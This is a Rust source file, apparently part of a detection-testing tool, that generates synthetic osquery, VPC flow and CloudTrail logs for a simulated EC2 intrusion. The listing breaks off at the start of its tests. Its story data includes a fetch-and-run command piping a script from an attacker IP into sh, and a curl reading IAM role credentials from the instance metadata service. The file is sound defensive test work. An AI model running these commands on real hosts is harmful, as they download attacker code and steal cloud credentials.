//! The intrusion story: an SSH login to an EC2 instance from outside the office, a
//! `curl … | sh` on the host, then reconnaissance of the AWS account with the
//! instance's role — seen by osquery, VPC flow logs and CloudTrail.
//!
//! Timeline, on the spec's day (UTC), between 14:02 and 14:08:
//!
//! | time     | log type               | what |
//! |----------|------------------------|------|
//! | 14:02–07 | `AWS.VPCFlow`          | five flow records [`ATTACKER_IP`]:51234 → [`HOST_PRIVATE_IP`]:22, TCP, ACCEPT, instance [`INSTANCE_ID`] |
//! | 14:03:00 | `Osquery.Differential` | [`LOGIN_QUERY`] `added`: user [`LOGIN_USER`] on [`HOST_IDENTIFIER`] from [`ATTACKER_IP`] (raises `Osquery.OutsideOfficeLogin`) |
//! | 14:05:20–41 | `AWS.CloudTrail`    | [`RECON_CALLS`] from [`HOST_PUBLIC_IP`] by `assumed-role/`[`INSTANCE_ROLE`]`/`[`INSTANCE_ID`], no errors |
//! | 14:06:00 | `Osquery.Differential` | [`SHELL_HISTORY_QUERY`] `added`: three commands of `uid` 1000, the last [`DROPPER_COMMAND`] |
//!
//! Background traffic of the same log types is spread over the whole day: a fleet of
//! other instances (web traffic, port scans that are rejected, internal and outbound
//! flows), osquery logins from the office network (192.0.1.0/24) and their logouts,
//! shell history and listening ports of other hosts, and CloudTrail calls by IAM users,
//! other instance roles and AWS services, some refused with an `errorMessage`.
//!
//! What must stay true, and the tests check:
//! * the story's lines depend on the day alone, not on the seed or the background;
//! * no background line names [`ATTACKER_IP`], [`HOST_PUBLIC_IP`], [`HOST_PRIVATE_IP`],
//!   [`HOST_IDENTIFIER`], [`INSTANCE_ID`] or [`LOGIN_USER`], and no background
//!   CloudTrail call is one of [`RECON_CALLS`];
//! * no background osquery row is an `added` login from outside the office network,
//!   so the story's login is the scenario's only `Osquery.OutsideOfficeLogin` alert;
//! * every event falls on the spec's day.

use rand::rngs::StdRng;
use rand::seq::IndexedRandom;
use rand::{Rng, SeedableRng};
use serde_json::{json, Value};

use super::day::{osquery_calendar_time, rfc3339, SECONDS_PER_DAY};
use super::{Day, Scenario, ScenarioLog};

/// The scenario's name on the command line and in stream names.
pub const NAME: &str = "intrusion";

/// The attacker: the SSH client in the flow logs and the login's `columns.host`.
pub const ATTACKER_IP: &str = "136.24.229.194";
/// The compromised instance.
pub const INSTANCE_ID: &str = "i-016e2cb69ac58c2d5";
/// Its osquery `hostIdentifier` (EC2's hostname for its private address).
pub const HOST_IDENTIFIER: &str = "ip-172-31-84-73";
/// Its private address: the destination of the SSH flows.
pub const HOST_PRIVATE_IP: &str = "172.31.84.73";
/// Its public address: the source of the calls made with its role.
pub const HOST_PUBLIC_IP: &str = "54.164.105.138";
/// The account logged in to.
pub const LOGIN_USER: &str = "ubuntu";
/// The AWS account everything happens in.
pub const ACCOUNT_ID: &str = "123456789012";
/// The instance's IAM role, whose credentials the attacker uses.
pub const INSTANCE_ROLE: &str = "webserver-instance-role";
pub const REGION: &str = "us-east-1";
/// The osquery pack query that reports the login.
pub const LOGIN_QUERY: &str = "pack_incident-response_logged_in_users";
/// The osquery pack query that reports the commands.
pub const SHELL_HISTORY_QUERY: &str = "pack_incident-response_shell_history";
/// The command that fetches and runs the attacker's script.
pub const DROPPER_COMMAND: &str = "curl -s http://136.24.229.194/x.sh | sh";
/// The reconnaissance calls, in order: (`eventName`, `eventSource`, aws-cli command).
pub const RECON_CALLS: [(&str, &str, &str); 5] = [
    (
        "GetCallerIdentity",
        "sts.amazonaws.com",
        "sts.get-caller-identity",
    ),
    ("GetRole", "iam.amazonaws.com", "iam.get-role"),
    ("ListUsers", "iam.amazonaws.com", "iam.list-users"),
    (
        "DescribeTrails",
        "cloudtrail.amazonaws.com",
        "cloudtrail.describe-trails",
    ),
    ("ListBuckets", "s3.amazonaws.com", "s3.ls"),
];

pub const OSQUERY: &str = "Osquery.Differential";
pub const VPC_FLOW: &str = "AWS.VPCFlow";
pub const CLOUDTRAIL: &str = "AWS.CloudTrail";

/// (`source_id`, `source_label`) of each log type's source.
pub const OSQUERY_SOURCE: (&str, &str) = ("osquery-fleet", "osquery fleet");
pub const VPC_FLOW_SOURCE: (&str, &str) = ("vpc-flow-logs", "VPC flow logs");
pub const CLOUDTRAIL_SOURCE: (&str, &str) = ("cloudtrail", "CloudTrail");

/// The custom (v5 fields) VPC flow log format: the first line of the VPC flow stream.
/// It names `instance-id`, which the default v2 format lacks.
pub const VPC_FLOW_HEADER: &str = "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status vpc-id subnet-id instance-id tcp-flags type pkt-srcaddr pkt-dstaddr region az-id flow-direction";

/// The hour (UTC) the story happens in.
pub const STORY_HOUR: i64 = 14;

/// CloudTrail delivers a file about every five minutes; an envelope holds one window's
/// records, at most this many.
const ENVELOPE_SECONDS: i64 = 300;
const ENVELOPE_MAX_RECORDS: usize = 50;

const VPC_ID: &str = "vpc-0a52c4e1f9b3d7e68";
const STORY_ENI: &str = "eni-0f3b5c2a9d4e61a07";
const STORY_SUBNET: &str = "subnet-06d1e3b9a7c2f4851";
const STORY_AZ: &str = "use1-az4";
const STORY_ROLE_ID: &str = "AROAXQ6B3N2V7JWKZ5Y4M";
const STORY_ACCESS_KEY: &str = "ASIAXQ6B3N2VF4KQ7ZHL";
/// The story's ids are drawn from this seed mixed with the day.
const STORY_SEED: u64 = 0x1a7b_05e5_c0de_0006;

/// What to generate.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct IntrusionSpec {
    /// The UTC day every event falls on.
    pub day: Day,
    /// Background events besides the story: half VPC flow records, a quarter CloudTrail
    /// records, a quarter osquery rows.
    pub background_events: u64,
    /// Seed of the background traffic.
    pub seed: u64,
}

/// Generates the scenario: per log type, the story's events mixed into the background
/// by event time. A pure function of `spec`.
pub fn generate(spec: &IntrusionSpec) -> Scenario {
    let day_start = spec.day.start_unix();
    let story_start = day_start + STORY_HOUR * 3600;
    let mut story_rng = StdRng::seed_from_u64(STORY_SEED ^ day_start as u64);
    let mut rng = StdRng::seed_from_u64(spec.seed);
    let fleet = Fleet::new(&mut rng);

    let vpc_count = spec.background_events / 2;
    let cloudtrail_count = spec.background_events / 4;
    let osquery_count = spec.background_events - vpc_count - cloudtrail_count;

    let mut vpc: Vec<(i64, String)> = story_flows(story_start);
    let vpc_story = vpc.len() as u64;
    for _ in 0..vpc_count {
        vpc.push(fleet.flow(&mut rng, day_start));
    }

    let mut cloudtrail: Vec<(i64, Value)> = story_calls(&mut story_rng, story_start);
    let cloudtrail_story = cloudtrail.len() as u64;
    for _ in 0..cloudtrail_count {
        cloudtrail.push(fleet.call(&mut rng, day_start));
    }

    let mut osquery: Vec<(i64, String)> = story_host_rows(&mut story_rng, story_start);
    let osquery_story = osquery.len() as u64;
    for _ in 0..osquery_count {
        osquery.push(fleet.host_row(&mut rng, day_start));
    }

    let day = spec.day;
    let mut osquery_log = ScenarioLog::new(NAME, day, OSQUERY, OSQUERY_SOURCE);
    osquery_log.events = osquery.len() as u64;
    osquery_log.story_events = osquery_story;
    osquery_log.lines = by_time(osquery);

    let mut vpc_log = ScenarioLog::new(NAME, day, VPC_FLOW, VPC_FLOW_SOURCE);
    vpc_log.events = vpc.len() as u64;
    vpc_log.story_events = vpc_story;
    vpc_log.lines = std::iter::once(VPC_FLOW_HEADER.to_owned())
        .chain(by_time(vpc))
        .collect();

    let mut cloudtrail_log = ScenarioLog::new(NAME, day, CLOUDTRAIL, CLOUDTRAIL_SOURCE);
    cloudtrail_log.events = cloudtrail.len() as u64;
    cloudtrail_log.story_events = cloudtrail_story;
    cloudtrail_log.lines = envelopes(cloudtrail);

    Scenario {
        name: NAME,
        day,
        logs: vec![osquery_log, vpc_log, cloudtrail_log],
        story: story_summary(day, story_start),
    }
}

/// The story's key values, for the run's summary.
fn story_summary(day: Day, story_start: i64) -> Vec<(&'static str, String)> {
    let clock = |unix: i64| rfc3339(unix)[11..19].to_owned();
    vec![
        (
            "window (UTC)",
            format!(
                "{day} {}–{} (partition year={:04}/month={:02}/day={:02}/hour={STORY_HOUR:02})",
                clock(story_start + 2 * 60),
                clock(story_start + 8 * 60),
                day.year(),
                day.month(),
                day.day()
            ),
        ),
        ("attacker ip", ATTACKER_IP.to_owned()),
        ("host", HOST_IDENTIFIER.to_owned()),
        ("instance", INSTANCE_ID.to_owned()),
        ("host private ip", HOST_PRIVATE_IP.to_owned()),
        ("host public ip", HOST_PUBLIC_IP.to_owned()),
        ("login user", LOGIN_USER.to_owned()),
        ("command", DROPPER_COMMAND.to_owned()),
        ("role", assumed_role_arn()),
        (
            "api calls",
            RECON_CALLS
                .iter()
                .map(|(name, _, _)| *name)
                .collect::<Vec<_>>()
                .join(", "),
        ),
        (
            "expected alert",
            format!("Osquery.OutsideOfficeLogin, user {LOGIN_USER}"),
        ),
    ]
}

/// Sorts by event time (stably: equal times keep their order) and drops the times.
fn by_time<T>(mut events: Vec<(i64, T)>) -> Vec<T> {
    events.sort_by_key(|(time, _)| *time);
    events.into_iter().map(|(_, event)| event).collect()
}

/// CloudTrail records as `{"Records": […]}` lines: one per delivery window, at most
/// [`ENVELOPE_MAX_RECORDS`] records each, in event-time order.
fn envelopes(records: Vec<(i64, Value)>) -> Vec<String> {
    let mut records = records;
    records.sort_by_key(|(time, _)| *time);
    let mut lines = Vec::new();
    let mut batch: Vec<Value> = Vec::new();
    let mut window = None;
    for (time, record) in records {
        let this_window = time.div_euclid(ENVELOPE_SECONDS);
        if !batch.is_empty() && (window != Some(this_window) || batch.len() == ENVELOPE_MAX_RECORDS)
        {
            lines.push(json!({ "Records": std::mem::take(&mut batch) }).to_string());
        }
        window = Some(this_window);
        batch.push(record);
    }
    if !batch.is_empty() {
        lines.push(json!({ "Records": batch }).to_string());
    }
    lines
}

fn assumed_role_arn() -> String {
    format!("arn:aws:sts::{ACCOUNT_ID}:assumed-role/{INSTANCE_ROLE}/{INSTANCE_ID}")
}

/// A random version-4 UUID, as CloudTrail's `eventID` and `requestID`.
fn uuid(rng: &mut StdRng) -> String {
    let bits: u128 = rng.random();
    let bits = (bits & !(0xf << 76) | (0x4 << 76)) & !(0x3 << 62) | (0x2 << 62);
    let hex = format!("{bits:032x}");
    format!(
        "{}-{}-{}-{}-{}",
        &hex[0..8],
        &hex[8..12],
        &hex[12..16],
        &hex[16..20],
        &hex[20..32]
    )
}

/// `count` random lowercase hex digits.
fn hex_id(rng: &mut StdRng, count: usize) -> String {
    (0..count)
        .map(|_| char::from(b"0123456789abcdef"[rng.random_range(0..16)]))
        .collect()
}

/// One VPC flow line in [`VPC_FLOW_HEADER`]'s column order.
struct Flow<'a> {
    interface: &'a str,
    src: &'a str,
    dst: &'a str,
    src_port: u16,
    dst_port: u16,
    protocol: u8,
    packets: u64,
    bytes: u64,
    start: i64,
    accept: bool,
    subnet: &'a str,
    instance: &'a str,
    tcp_flags: u8,
    az: &'a str,
    ingress: bool,
}

impl Flow<'_> {
    fn line(&self) -> String {
        format!(
            "5 {ACCOUNT_ID} {} {} {} {} {} {} {} {} {} {} {} OK {VPC_ID} {} {} {} IPv4 {} {} {REGION} {} {}",
            self.interface,
            self.src,
            self.dst,
            self.src_port,
            self.dst_port,
            self.protocol,
            self.packets,
            self.bytes,
            self.start,
            self.start + 60,
            if self.accept { "ACCEPT" } else { "REJECT" },
            self.subnet,
            self.instance,
            self.tcp_flags,
            self.src,
            self.dst,
            self.az,
            if self.ingress { "ingress" } else { "egress" },
        )
    }
}

/// The SSH session in one-minute flow records, 14:02 to 14:07: SYN first, FIN last.
fn story_flows(story_start: i64) -> Vec<(i64, String)> {
    const MINUTES: [(u64, u64, u8); 5] = [
        (21, 3894, 2),
        (48, 6120, 0),
        (35, 4911, 0),
        (62, 9802, 0),
        (17, 2230, 1),
    ];
    MINUTES
        .iter()
        .enumerate()
        .map(|(minute, &(packets, bytes, tcp_flags))| {
            let start = story_start + (2 + minute as i64) * 60;
            let flow = Flow {
                interface: STORY_ENI,
                src: ATTACKER_IP,
                dst: HOST_PRIVATE_IP,
                src_port: 51234,
                dst_port: 22,
                protocol: 6,
                packets,
                bytes,
                start,
                accept: true,
                subnet: STORY_SUBNET,
                instance: INSTANCE_ID,
                tcp_flags,
                az: STORY_AZ,
                ingress: true,
            };
            (start, flow.line())
        })
        .collect()
}

/// One osquery differential row in osqueryd's event format.
fn osquery_row(
    query: &str,
    host: &str,
    instance: &str,
    run: i64,
    counter: u64,
    columns: Value,
    action: &str,
) -> String {
    json!({
        "name": query,
        "hostIdentifier": host,
        "calendarTime": osquery_calendar_time(run),
        "unixTime": run,
        "epoch": 0,
        "counter": counter,
        "numerics": false,
        "decorations": {"host_uuid": format!("ec2{}", &instance[2..]), "instance_id": instance},
        "columns": columns,
        "action": action,
    })
    .to_string()
}

/// The login (reported at 14:03:00) and the commands (reported at 14:06:00).
fn story_host_rows(rng: &mut StdRng, story_start: i64) -> Vec<(i64, String)> {
    let login_at = story_start + 2 * 60 + 33;
    let login_run = story_start + 3 * 60;
    let login = osquery_row(
        LOGIN_QUERY,
        HOST_IDENTIFIER,
        INSTANCE_ID,
        login_run,
        118,
        json!({
            "host": ATTACKER_IP,
            "pid": rng.random_range(2000..30_000u32).to_string(),
            "time": login_at.to_string(),
            "tty": "pts/0",
            "type": "user",
            "user": LOGIN_USER,
        }),
        "added",
    );
    let history_run = story_start + 6 * 60;
    let commands = [
        (story_start + 3 * 60 + 40, "id".to_owned()),
        (
            story_start + 4 * 60 + 5,
            format!(
                "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/{INSTANCE_ROLE}"
            ),
        ),
        (story_start + 5 * 60 + 2, DROPPER_COMMAND.to_owned()),
    ];
    let mut rows = vec![(login_run, login)];
    for (at, command) in commands {
        rows.push((
            history_run,
            osquery_row(
                SHELL_HISTORY_QUERY,
                HOST_IDENTIFIER,
                INSTANCE_ID,
                history_run,
                47,
                json!({
                    "uid": "1000",
                    "time": at.to_string(),
                    "command": command,
                    "history_file": format!("/home/{LOGIN_USER}/.bash_history"),
                }),
                "added",
            ),
        ));
    }
    rows
}

/// Who made a CloudTrail call.
fn identity_of_role(role: &str, role_id: &str, session: &str, access_key: &str) -> Value {
    json!({
        "type": "AssumedRole",
        "principalId": format!("{role_id}:{session}"),
        "arn": format!("arn:aws:sts::{ACCOUNT_ID}:assumed-role/{role}/{session}"),
        "accountId": ACCOUNT_ID,
        "accessKeyId": access_key,
        "sessionContext": {
            "sessionIssuer": {
                "type": "Role",
                "principalId": role_id,
                "arn": format!("arn:aws:iam::{ACCOUNT_ID}:role/{role}"),
                "accountId": ACCOUNT_ID,
                "userName": role,
            },
            "attributes": {"creationDate": "", "mfaAuthenticated": "false"},
            "ec2RoleDelivery": "2.0",
        },
    })
}

/// One CloudTrail record of an API call.
struct Call<'a> {
    time: i64,
    name: &'a str,
    source: &'a str,
    source_ip: &'a str,
    user_agent: &'a str,
    identity: Value,
    request: Value,
    read_only: bool,
    error: Option<(&'a str, String)>,
}

impl Call<'_> {
    fn record(self, rng: &mut StdRng) -> (i64, Value) {
        let mut record = json!({
            "eventVersion": "1.08",
            "userIdentity": self.identity,
            "eventTime": rfc3339(self.time),
            "eventSource": self.source,
            "eventName": self.name,
            "awsRegion": REGION,
            "sourceIPAddress": self.source_ip,
            "userAgent": self.user_agent,
            "requestParameters": self.request,
            "responseElements": null,
            "requestID": uuid(rng),
            "eventID": uuid(rng),
            "readOnly": self.read_only,
            "eventType": "AwsApiCall",
            "managementEvent": true,
            "recipientAccountId": ACCOUNT_ID,
            "eventCategory": "Management",
        });
        if let Some((code, message)) = self.error {
            record["errorCode"] = Value::from(code);
            record["errorMessage"] = Value::from(message);
        }
        (self.time, record)
    }
}

/// The reconnaissance calls, 14:05:20 to 14:05:41, by the instance's role session.
fn story_calls(rng: &mut StdRng, story_start: i64) -> Vec<(i64, Value)> {
    const OFFSETS: [i64; 5] = [20, 24, 29, 35, 41];
    let session_created = rfc3339(story_start - 53 * 60 + 9);
    RECON_CALLS
        .iter()
        .zip(OFFSETS)
        .map(|(&(name, source, command), offset)| {
            let mut identity =
                identity_of_role(INSTANCE_ROLE, STORY_ROLE_ID, INSTANCE_ID, STORY_ACCESS_KEY);
            identity["sessionContext"]["attributes"]["creationDate"] =
                Value::from(session_created.as_str());
            let request = match name {
                "GetRole" => json!({ "roleName": INSTANCE_ROLE }),
                "DescribeTrails" => json!({ "trailNameList": [], "includeShadowTrails": true }),
                "ListBuckets" => json!({ "Host": "s3.amazonaws.com" }),
                _ => Value::Null,
            };
            let user_agent = format!(
                "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-1014-aws exe/x86_64.ubuntu.22 prompt/off command/{command}"
            );
            Call {
                time: story_start + 5 * 60 + offset,
                name,
                source,
                source_ip: HOST_PUBLIC_IP,
                user_agent: &user_agent,
                identity,
                request,
                read_only: true,
                error: None,
            }
            .record(rng)
        })
        .collect()
}

/// First octets of background public addresses. Neither story address (54.…, 136.…)
/// can be drawn, nor any address that ends in one of them.
const PUBLIC_FIRST_OCTETS: [u8; 16] = [
    3, 18, 23, 34, 35, 44, 52, 63, 73, 81, 98, 104, 107, 142, 151, 185,
];
/// The office network of `Osquery.OutsideOfficeLogin`.
const OFFICE_PREFIX: &str = "192.0.1.";
const USERS: [&str; 6] = ["alice", "bob", "carol", "dave", "erin", "deploy"];
const ROLES: [&str; 4] = [
    "app-server-role",
    "batch-worker-role",
    "bastion-role",
    "ci-runner-role",
];
const SUBNETS: [(&str, &str); 3] = [
    ("subnet-0b7e2d9c4a1f36e58", "use1-az1"),
    ("subnet-09c4f1a7e3d2b6a05", "use1-az2"),
    (STORY_SUBNET, STORY_AZ),
];
const HISTORY: [&str; 8] = [
    "git pull",
    "ls -la",
    "sudo systemctl status nginx",
    "tail -n 100 /var/log/syslog",
    "df -h",
    "docker ps",
    "sudo journalctl -u app --since today",
    "cd /srv/app && make deploy",
];
const LISTENERS: [(&str, &str); 4] = [
    ("443", "/usr/sbin/nginx"),
    ("80", "/usr/sbin/nginx"),
    ("5432", "/usr/lib/postgresql/16/bin/postgres"),
    ("9100", "/usr/local/bin/node_exporter"),
];

fn public_ip(rng: &mut StdRng) -> String {
    let first = PUBLIC_FIRST_OCTETS
        .choose(rng)
        .copied()
        .unwrap_or(PUBLIC_FIRST_OCTETS[0]);
    format!(
        "{first}.{}.{}.{}",
        rng.random_range(0..=255u8),
        rng.random_range(0..=255u8),
        rng.random_range(1..=254u8)
    )
}

fn office_ip(rng: &mut StdRng) -> String {
    format!("{OFFICE_PREFIX}{}", rng.random_range(1..=254u8))
}

/// A background instance.
struct Instance {
    id: String,
    interface: String,
    private_ip: String,
    public_ip: String,
    hostname: String,
    role: &'static str,
    role_id: String,
    subnet: &'static str,
    az: &'static str,
}

/// The background's instances, none of them the story's.
struct Fleet {
    instances: Vec<Instance>,
}

const FLEET_SIZE: usize = 24;

impl Fleet {
    fn new(rng: &mut StdRng) -> Fleet {
        let mut instances: Vec<Instance> = Vec::with_capacity(FLEET_SIZE);
        while instances.len() < FLEET_SIZE {
            let (a, b) = (rng.random_range(0..=95u8), rng.random_range(4..=250u8));
            let private_ip = format!("172.31.{a}.{b}");
            let id = format!("i-0{}", hex_id(rng, 16));
            if private_ip == HOST_PRIVATE_IP
                || id == INSTANCE_ID
                || instances.iter().any(|i| i.private_ip == private_ip)
            {
                continue;
            }
            let role = ROLES[instances.len() % ROLES.len()];
            let &(subnet, az) = SUBNETS.choose(rng).unwrap_or(&SUBNETS[0]);
            instances.push(Instance {
                interface: format!("eni-0{}", hex_id(rng, 16)),
                public_ip: public_ip(rng),
                hostname: format!("ip-172-31-{a}-{b}"),
                role_id: format!("AROA{}", hex_id(rng, 17).to_uppercase()),
                id,
                private_ip,
                role,
                subnet,
                az,
            });
        }
        Fleet { instances }
    }

    fn pick(&self, rng: &mut StdRng) -> &Instance {
        &self.instances[rng.random_range(0..self.instances.len())]
    }

    /// A flow record of some instance, at a random minute of the day.
    fn flow(&self, rng: &mut StdRng, day_start: i64) -> (i64, String) {
        let instance = self.pick(rng);
        let start = day_start + rng.random_range(0..SECONDS_PER_DAY - 60);
        let peer = public_ip(rng);
        let other = self.pick(rng).private_ip.clone();
        let ephemeral = rng.random_range(32_768..=60_999u16);
        let kind = rng.random_range(0..100u8);
        let (src, dst, src_port, dst_port, accept, ingress) = match kind {
            // Web traffic to the instance.
            0..=39 => (
                peer.as_str(),
                instance.private_ip.as_str(),
                ephemeral,
                *[443u16, 80].choose(rng).unwrap_or(&443),
                true,
                true,
            ),
            // Internet scans of admin ports, refused by the security groups.
            40..=59 => (
                peer.as_str(),
                instance.private_ip.as_str(),
                ephemeral,
                *[22u16, 23, 3389, 445, 5900, 8080]
                    .choose(rng)
                    .unwrap_or(&22),
                false,
                true,
            ),
            // Calls out to the internet.
            60..=79 => (
                instance.private_ip.as_str(),
                peer.as_str(),
                ephemeral,
                443,
                true,
                false,
            ),
            // Service to service inside the VPC.
            _ => (
                instance.private_ip.as_str(),
                other.as_str(),
                ephemeral,
                *[5432u16, 6379, 8080, 9100].choose(rng).unwrap_or(&5432),
                true,
                false,
            ),
        };
        let packets = rng.random_range(1..400u64);
        let flow = Flow {
            interface: &instance.interface,
            src,
            dst,
            src_port,
            dst_port,
            protocol: 6,
            packets,
            bytes: packets * rng.random_range(40..1500u64),
            start,
            accept,
            subnet: instance.subnet,
            instance: &instance.id,
            tcp_flags: if accept {
                *[2u8, 3, 18, 19, 0].choose(rng).unwrap_or(&3)
            } else {
                2
            },
            az: instance.az,
            ingress,
        };
        (start, flow.line())
    }

    /// An osquery row of some instance: an office login or logout, a shell command or a
    /// listening port.
    fn host_row(&self, rng: &mut StdRng, day_start: i64) -> (i64, String) {
        let instance = self.pick(rng);
        let run = day_start + rng.random_range(0..SECONDS_PER_DAY);
        let happened = (run - rng.random_range(0..60)).max(day_start);
        let user = *USERS.choose(rng).unwrap_or(&USERS[0]);
        let counter = rng.random_range(1..5000u64);
        let row = |query: &str, columns: Value, action: &str| {
            osquery_row(
                query,
                &instance.hostname,
                &instance.id,
                run,
                counter,
                columns,
                action,
            )
        };
        let session = |rng: &mut StdRng| {
            json!({
                "host": office_ip(rng),
                "pid": rng.random_range(2000..30_000u32).to_string(),
                "time": happened.to_string(),
                "tty": format!("pts/{}", rng.random_range(0..4u8)),
                "type": "user",
                "user": user,
            })
        };
        let text = match rng.random_range(0..10u8) {
            0..=2 => row(LOGIN_QUERY, session(rng), "added"),
            3..=4 => row(LOGIN_QUERY, session(rng), "removed"),
            5..=7 => row(
                SHELL_HISTORY_QUERY,
                json!({
                    "uid": rng.random_range(1001..1010u32).to_string(),
                    "time": happened.to_string(),
                    "command": HISTORY.choose(rng).unwrap_or(&HISTORY[0]),
                    "history_file": format!("/home/{user}/.bash_history"),
                }),
                "added",
            ),
            _ => {
                let &(port, path) = LISTENERS.choose(rng).unwrap_or(&LISTENERS[0]);
                row(
                    "pack_incident-response_listening_ports",
                    json!({
                        "address": "0.0.0.0",
                        "port": port,
                        "protocol": "6",
                        "family": "2",
                        "pid": rng.random_range(300..5000u32).to_string(),
                        "path": path,
                    }),
                    ["added", "removed"].choose(rng).unwrap_or(&"added"),
                )
            }
        };
        (run, text)
    }

    /// A CloudTrail call by an IAM user, another instance's role or an AWS service.
    fn call(&self, rng: &mut StdRng, day_start: i64) -> (i64, Value) {
        let time = day_start + rng.random_range(0..SECONDS_PER_DAY);
        let instance = self.pick(rng);
        match rng.random_range(0..10u8) {
            0..=4 => user_call(rng, time, instance),
            5..=8 => role_call(rng, time, instance),
            _ => service_call(rng, time, instance),
        }
    }
}

const CONSOLE_USER_AGENT: &str = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) \
     AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15";
const CLI_USER_AGENT: &str = "aws-cli/2.15.30 Python/3.11.8 Darwin/23.4.0 exe/x86_64 prompt/off";
const SDK_USER_AGENT: &str =
    "aws-sdk-go-v2/1.30.3 os/linux lang/go#1.22.5 md/GOOS#linux md/GOARCH#amd64";

/// A person's call, from the office or from home; about one in six is refused.
fn user_call(rng: &mut StdRng, time: i64, instance: &Instance) -> (i64, Value) {
    let user = *USERS.choose(rng).unwrap_or(&USERS[0]);
    let arn = format!("arn:aws:iam::{ACCOUNT_ID}:user/{user}");
    let source_ip = if rng.random_bool(0.6) {
        office_ip(rng)
    } else {
        public_ip(rng)
    };
    let instances = json!({"instancesSet": {"items": [{"instanceId": instance.id}]}});
    let (name, source, request) = match rng.random_range(0..5u8) {
        0 => ("DescribeInstances", "ec2.amazonaws.com", instances),
        1 => (
            "DescribeSecurityGroups",
            "ec2.amazonaws.com",
            json!({"securityGroupSet": {}}),
        ),
        2 => (
            "GetBucketPolicy",
            "s3.amazonaws.com",
            json!({"bucketName": "corp-app-artifacts", "policy": ""}),
        ),
        3 => ("StartInstances", "ec2.amazonaws.com", instances),
        _ => ("ConsoleLogin", "signin.amazonaws.com", Value::Null),
    };
    let console = name == "ConsoleLogin";
    let refused = rng.random_bool(1.0 / 6.0);
    let identity = json!({
        "type": "IAMUser",
        "principalId": format!("AIDA{}", hex_id(rng, 17).to_uppercase()),
        "arn": arn,
        "accountId": ACCOUNT_ID,
        "userName": user,
    });
    let (time, mut record) = Call {
        time,
        name,
        source,
        source_ip: &source_ip,
        user_agent: if console {
            CONSOLE_USER_AGENT
        } else {
            CLI_USER_AGENT
        },
        identity,
        request,
        read_only: !matches!(name, "StartInstances" | "ConsoleLogin"),
        error: refused.then(|| refusal(name, source, &arn)),
    }
    .record(rng);
    if console {
        record["eventType"] = Value::from("AwsConsoleSignIn");
        record["responseElements"] =
            json!({"ConsoleLogin": if refused { "Failure" } else { "Success" }});
        record["additionalEventData"] = json!({"MFAUsed": "Yes"});
    }
    (time, record)
}

/// The `errorCode` and `errorMessage` of a refused call.
fn refusal(name: &str, source: &str, arn: &str) -> (&'static str, String) {
    match (name, source) {
        ("ConsoleLogin", _) => ("Failed authentication", "Failed authentication".into()),
        (_, "ec2.amazonaws.com") => (
            "Client.UnauthorizedOperation",
            "You are not authorized to perform this operation.".into(),
        ),
        _ => {
            let service = source.split('.').next().unwrap_or(source);
            let action = format!("{service}:{name}");
            (
                "AccessDenied",
                format!(
                    "User: {arn} is not authorized to perform: {action} because no \
                     identity-based policy allows the {action} action"
                ),
            )
        }
    }
}

/// An application on another instance, with that instance's role.
fn role_call(rng: &mut StdRng, time: i64, instance: &Instance) -> (i64, Value) {
    let (name, source, request) = match rng.random_range(0..3u8) {
        0 => (
            "GetParameter",
            "ssm.amazonaws.com",
            json!({"name": "/app/database/url", "withDecryption": true}),
        ),
        1 => (
            "Decrypt",
            "kms.amazonaws.com",
            json!({"encryptionAlgorithm": "SYMMETRIC_DEFAULT"}),
        ),
        _ => (
            "CreateLogStream",
            "logs.amazonaws.com",
            json!({
                "logGroupName": format!("/app/{}", instance.role),
                "logStreamName": instance.id,
            }),
        ),
    };
    let identity = identity_of_role(
        instance.role,
        &instance.role_id,
        &instance.id,
        &format!("ASIA{}", hex_id(rng, 16).to_uppercase()),
    );
    Call {
        time,
        name,
        source,
        source_ip: &instance.public_ip,
        user_agent: SDK_USER_AGENT,
        identity,
        request,
        read_only: name != "CreateLogStream",
        error: None,
    }
    .record(rng)
}

/// EC2 refreshing an instance profile's credentials.
fn service_call(rng: &mut StdRng, time: i64, instance: &Instance) -> (i64, Value) {
    Call {
        time,
        name: "AssumeRole",
        source: "sts.amazonaws.com",
        source_ip: "ec2.amazonaws.com",
        user_agent: "ec2.amazonaws.com",
        identity: json!({"type": "AWSService", "invokedBy": "ec2.amazonaws.com"}),
        request: json!({
            "roleArn": format!("arn:aws:iam::{ACCOUNT_ID}:role/{}", instance.role),
            "roleSessionName": instance.id,
        }),
        read_only: true,
        error: None,
    }
    .record(rng)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;

    fn spec(background_events: u64, seed: u64) -> IntrusionSpec {
        IntrusionSpec {
            day: "2026-11-27".parse().expect("valid day"),
            background_events,
            seed,
        }
    }

    fn json_lines(scenario: &Scenario, log_type: &str) -> Vec<Value> {
        scenario
            .log(log_type)
            .expect("log present")
            .lines
            .iter()
            .map(|line| serde_json::from_str(line).expect("a JSON line"))
            .collect()
    }

    fn cloudtrail_records(scenario: &Scenario) -> Vec<Value> {
        json_lines(scenario, CLOUDTRAIL)
            .into_iter()
            .flat_map(|envelope| envelope["Records"].as_array().cloned().expect("Records"))
            .collect()
    }

    /// VPC flow rows as column name → value maps, by the header line.
    fn flow_rows(scenario: &Scenario) -> Vec<std::collections::BTreeMap<String, String>> {
        let lines = &scenario.log(VPC_FLOW).expect("log present").lines;
        assert_eq!(lines[0], VPC_FLOW_HEADER);
        let header: Vec<&str> = VPC_FLOW_HEADER.split(' ').collect();
        lines[1..]
            .iter()
            .map(|line| {
                let values: Vec<&str> = line.split(' ').collect();
                assert_eq!(values.len(), header.len(), "{line}");
                header
                    .iter()
                    .zip(values)
                    .map(|(h, v)| (h.to_string(), v.to_string()))
                    .collect()
            })
            .collect()
    }

    fn story_values() -> [&'static str; 6] {
        [
            ATTACKER_IP,
            HOST_PUBLIC_IP,
            HOST_PRIVATE_IP,
            HOST_IDENTIFIER,
            INSTANCE_ID,
            LOGIN_USER,
        ]
    }

    /// The words of a line, split where an address, id or name cannot continue.
    fn tokens(line: &str) -> BTreeSet<&str> {
        line.split(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '-'))
            .filter(|t| !t.is_empty())
            .collect()
    }

    fn mentions_story(line: &str) -> bool {
        let tokens = tokens(line);
        story_values().iter().any(|value| tokens.contains(value))
    }

    #[test]
    fn the_login_is_reported_as_specified() {
